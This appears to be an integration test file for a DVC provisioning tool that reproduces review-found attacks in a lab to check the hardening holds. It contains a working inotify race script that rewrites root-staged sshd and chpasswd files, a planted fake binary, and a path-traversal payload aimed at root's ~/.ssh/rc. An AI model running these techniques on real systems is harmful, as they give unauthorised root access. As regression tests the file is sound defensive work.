"""Attacks from the review of the hardening, performed on the lab (see docs/security.md, Residual risks).

- a process of the connecting admin on storage (it cannot sudo: it lacks the password) rewrites the files
  provision stages for root (the sshd drop-in, chpasswd's input) between upload and install;
- the connecting admin on a client plants a `dvc` in a dvc_venv it can write, which root runs;
- a client's storage key changes the mode of dvc_storage (world-writable for every local user on
  storage) over SFTP;
- a client pushes a commit and a DVC directory listing whose entries climb out of the checkout (`..`):
  another client's `dvc pull` writes the client's file wherever the path says, as that client's user;
- a client of one project pushes, with its own git key, to the repository of another project that
  shares the storage host's git_user.
"""

from __future__ import annotations

import hashlib
import json
import subprocess
from pathlib import Path

import pytest
import yaml

from provision.lab import Lab
from tests.integration.clirunner import provision, provision_json
from tests.integration.helpers import (
    DVC,
    WORKDIR,
    become_admin,
    bootstrap_and_onboard,
    client_sftp,
    client_ssh_options,
    failures,
    sh,
    task,
)

pytestmark = pytest.mark.integration

DROP_IN = "/etc/ssh/sshd_config.d/10-provision-dvc.conf"

# Run as the connecting admin: every file closed after writing in a new /tmp/.provision-stage.* directory
# is read and rewritten in place (same inode, no link): an sshd drop-in gets a global AuthorizedKeysFile
# line first, chpasswd's `dvc:<password>` becomes `root:<racer's password>`. Stops when argv[1] exists;
# prints "ready", then the number of rewrites.
RACER = r"""
import ctypes, os, select, struct, sys
libc = ctypes.CDLL("libc.so.6", use_errno=True)
IN_CLOSE_WRITE, IN_CREATE = 0x8, 0x100
stop = sys.argv[1]
fd = libc.inotify_init1(os.O_NONBLOCK)
directories = {libc.inotify_add_watch(fd, b"/tmp", IN_CREATE): "/tmp"}
print("ready", flush=True)
rewritten, rewrites = set(), 0
while not os.path.exists(stop):
    if not select.select([fd], [], [], 0.1)[0]:
        continue
    data, offset = os.read(fd, 65536), 0
    while offset < len(data):
        wd, mask, cookie, length = struct.unpack_from("iIII", data, offset)
        name = data[offset + 16:offset + 16 + length].rstrip(b"\0").decode()
        offset += 16 + length
        path = os.path.join(directories[wd], name)
        if directories[wd] == "/tmp":
            if name.startswith(".provision-stage."):
                directories[libc.inotify_add_watch(fd, path.encode(), IN_CLOSE_WRITE)] = path
            continue
        if path in rewritten:
            continue
        try:
            with open(path, "rb") as staged:
                content = staged.read()
            if content.startswith(b"# provision inventory:"):
                content = b"# racer\nAuthorizedKeysFile .ssh/authorized_keys /tmp/racer-keys\n" + content
            elif content.startswith(b"dvc:"):
                content = b"root:racer-password\n"
            else:
                continue
            with open(path, "r+b") as staged:
                staged.truncate(0)
                staged.write(content)
            rewritten.add(path)
            rewrites += 1
        except OSError:
            pass
print(rewrites, flush=True)
"""


def test_a_process_of_the_connecting_admin_cannot_rewrite_what_root_installs(make_lab, tmp_path: Path,
                                                                           vault_env: dict[str, str]) -> None:
    """Storage reached as the sudo admin, a password client: its staged drop-in and chpasswd input are raced."""
    lab = make_lab(["storage", "ws1"])
    inventory, _ = become_admin(lab, tmp_path, {"storage"}, vault_env)
    (tmp_path / "host_vars").mkdir()
    (tmp_path / "host_vars" / "ws1.yml").write_text("auth: password\n")
    root_hash = sh(lab, "storage", ["getent", "shadow", "root"])
    lab.host_path("storage", "/tmp/racer.py").write_text(RACER)
    racer = subprocess.Popen(
        ["nsenter", "--target", str(lab.pid("storage")), "--mount", "--uts", "--", "su", "-s", "/bin/sh", "-c",
         'exec python3 /tmp/racer.py "$0"', lab.admin_user, "/tmp/racer.stop"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert racer.stdout is not None and racer.stdout.readline().strip() == "ready"
        raced_status, raced = provision_json("bootstrap", "-i", str(inventory), home=tmp_path, env=vault_env)
    finally:
        lab.host_path("storage", "/tmp/racer.stop").touch()
        output, errors = racer.communicate(timeout=60)
    rewrites = int(output.strip().splitlines()[-1])
    assert rewrites > 0, f"the racer never caught a staged file: {errors}"
    assert sh(lab, "storage", ["getent", "shadow", "root"]) == root_hash, failures(raced)
    drop_in = lab.host_path("storage", DROP_IN)
    assert not drop_in.exists() or "racer" not in drop_in.read_text(), (raced_status, failures(raced))
    assert raced_status != 0, "a rewritten staged file must fail the run, not be installed"

    status, document = provision_json("bootstrap", "-i", str(inventory), home=tmp_path, env=vault_env)
    assert status == 0, failures(document)
    assert "racer" not in drop_in.read_text()


# Run as the connecting admin on a client: a `dvc` in $1/bin that records who ran it and claims a version.
PLANT_DVC = """
mkdir -p "$1/bin"
printf '#!/bin/sh\\nid -un > /tmp/planted-dvc-ran\\necho 3.60.0\\n' > "$1/bin/dvc"
chmod 0755 "$1/bin/dvc"
"""


def test_root_never_runs_a_dvc_the_connecting_user_planted_in_dvc_venv(make_lab, tmp_path: Path) -> None:
    """dvc_venv in the admin's home (a per-user virtualenv): even `onboard --check` must not run its dvc as root."""
    lab: Lab = make_lab(["storage", "ws1"])
    inventory, env = become_admin(lab, tmp_path, {"ws1"})
    venv = f"/home/{lab.admin_user}/dvc"
    data = yaml.safe_load(inventory.read_text())
    data["all"]["children"]["clients"]["hosts"]["ws1"]["dvc_venv"] = venv
    inventory.write_text(yaml.safe_dump(data))
    sh(lab, "ws1", ["su", "-s", "/bin/sh", "-c", PLANT_DVC, lab.admin_user, "sh", venv])

    status, document = provision_json("onboard", "-i", str(inventory), "ws1", "--check", home=tmp_path, env=env)
    assert status & 2, failures(document)
    ran = lab.exec("ws1", ["cat", "/tmp/planted-dvc-ran"]).stdout
    assert "root" not in ran, failures(document)
    dvc = task(document, "ws1", "dvc")
    assert dvc["status"] == "failed" and f"dvc_venv {venv}" in dvc["msg"], dvc


def test_a_client_key_cannot_open_dvc_storage_to_other_local_users(make_lab, tmp_path: Path) -> None:
    """chmod over SFTP is refused, while dvc push and pull (which never set modes) keep working."""
    lab = make_lab(["storage", "ws1"])
    bootstrap_and_onboard(lab, tmp_path, "ws1")
    push = ("set -e; cd \"$0\"; mkdir -p pushed; echo pushed > pushed/a.txt; $1 add -q pushed; $1 push -q; "
            "rm -rf pushed .dvc/cache; $1 pull -q pushed.dvc; cat pushed/a.txt")
    pushed = lab.exec("ws1", ["env", "DVC_NO_ANALYTICS=1", "sh", "-c", push, WORKDIR, DVC])
    assert pushed.returncode == 0 and pushed.stdout == "pushed\n", pushed.stderr

    chmod = lab.exec("ws1", client_sftp(lab, "dvc"), input="-chmod 0777 /cache\n-chmod 0777 /cache/files\n")
    assert sh(lab, "storage", ["stat", "-c", "%a", "/mnt/nfs/cache", "/mnt/nfs/cache/files"]) == "2775\n2775\n", \
        chmod.stderr
    planted = lab.exec("storage", ["su", "-s", "/bin/sh", "-c", "echo x > /mnt/nfs/cache/files/planted", "nobody"])
    assert planted.returncode != 0


PAYLOAD = b"#!/bin/sh\ntouch /tmp/planted-ran\n"


def _object(content: bytes, suffix: str = "") -> tuple[str, str]:
    """A DVC object's md5 and its path in the SFTP view of dvc_storage."""
    md5 = hashlib.md5(content).hexdigest()  # DVC names objects by md5
    return md5, f"/cache/files/md5/{md5[:2]}/{md5[2:]}{suffix}"


@pytest.mark.parametrize(("relpath", "link", "planted"), [
    ("../../.ssh/rc", None, "/root/.ssh/rc"),  # sshd runs ~/.ssh/rc at every login
    ("git", "/usr/local/sbin", "/usr/local/sbin/git"),  # empty, and ahead of /usr/bin on root's PATH
])
def test_another_clients_data_never_writes_outside_the_checkout(make_lab, tmp_path: Path, relpath: str,
                                                                link: str | None, planted: str) -> None:
    """ws1 (hostile, read-write) uploads a file and a listing naming it `relpath` for the output `models`,
    commits the .dvc file (and `models` as a link to `link`) and pushes; ws2 pulls as `onboard --pull` does."""
    lab = make_lab(["storage", "ws1", "ws2"])
    bootstrap_and_onboard(lab, tmp_path)

    file_md5, file_path = _object(PAYLOAD)
    listing = json.dumps([{"md5": file_md5, "relpath": relpath}]).encode()
    listing_md5, listing_path = _object(listing, ".dir")
    lab.host_path("ws1", "/tmp/payload").write_bytes(PAYLOAD)
    lab.host_path("ws1", "/tmp/listing").write_bytes(listing)
    batch = "".join(f"-mkdir {directory}\n" for directory in ("/cache/files", "/cache/files/md5",
                                                                  file_path.rsplit("/", 1)[0],
                                                                  listing_path.rsplit("/", 1)[0]))
    batch += f"put /tmp/payload {file_path}\nput /tmp/listing {listing_path}\n"
    uploaded = lab.exec("ws1", client_sftp(lab, "dvc"), input=batch)
    assert uploaded.returncode == 0, uploaded.stderr
    pointer = f"outs:\n- md5: {listing_md5}.dir\n  size: {len(PAYLOAD)}\n  nfiles: 1\n  hash: md5\n  path: models\n"
    lab.host_path("ws1", f"{WORKDIR}/models.dvc").write_text(pointer)
    linked = f"ln -s {link} models; git add -f models; " if link else ""
    commit = (f"set -e; cd \"$0\"; {linked}git add models.dvc; "
              "git -c user.name=intruder -c user.email=intruder@example.invalid commit -q -m models; git push -q")
    pushed = lab.exec("ws1", ["sh", "-c", commit, WORKDIR])
    assert pushed.returncode == 0, pushed.stderr

    pulled = lab.exec("ws2", ["env", "DVC_NO_ANALYTICS=1", "sh", "-c", 'cd "$0" && git pull -q && "$1" pull',
                              WORKDIR, DVC])
    escaped = lab.exec("ws2", ["ls", "-l", planted])
    assert escaped.returncode != 0, escaped.stdout + pulled.stdout + pulled.stderr
    assert pulled.returncode != 0 and "refused by provision's guard" in pulled.stderr, pulled.stderr


def test_a_client_of_one_project_cannot_push_to_another_projects_repository(make_lab, tmp_path: Path) -> None:
    """Two inventories (projects demo and other) share storage's default accounts; ws1 is a client of demo."""
    lab = make_lab(["storage", "ws1"])
    bootstrap_and_onboard(lab, tmp_path, "ws1")
    data = yaml.safe_load(lab.inventory_path.read_text())
    data["all"]["vars"]["project"] = "other"
    del data["all"]["children"]["clients"]
    other = tmp_path / "other.yml"
    other.write_text(yaml.safe_dump(data))
    other.with_suffix(".known_hosts").write_text(lab.known_hosts_path.read_text())
    done = provision("bootstrap", "-i", str(other), home=tmp_path)
    # Sharing git_user would let demo's keys reach other's repository: the second bootstrap is refused.
    assert done.returncode == 2 and "git already serves /mnt/nfs/git/demo.git" in done.stdout, done.stdout
    served = sh(lab, "storage", ["cat", "/home/git/git-repositories"])
    assert served == "/mnt/nfs/git/demo.git\n"
    # Even a repository made by hand beside it is out of reach of demo's client keys.
    sh(lab, "storage", ["su", "-s", "/bin/sh", "git", "-c", "git init -q --bare /mnt/nfs/git/other.git"])
    before = sh(lab, "storage", ["su", "-s", "/bin/sh", "git", "-c", "git -C /mnt/nfs/git/other.git show-ref || true"])

    ssh = " ".join(["ssh", *client_ssh_options(), "-p", str(lab.port("storage"))])
    push = ("set -e; cd /root/demo; git checkout -q -b intruder; "
            "git -c user.name=intruder -c user.email=intruder@example.invalid commit -q --allow-empty -m intrusion; "
            'GIT_SSH_COMMAND="$0" git push -q git@127.0.0.1:/mnt/nfs/git/other.git intruder')
    pushed = lab.exec("ws1", ["sh", "-c", push, ssh])
    after = sh(lab, "storage", ["su", "-s", "/bin/sh", "git", "-c", "git -C /mnt/nfs/git/other.git show-ref || true"])
    assert pushed.returncode != 0 and after == before, pushed.stderr
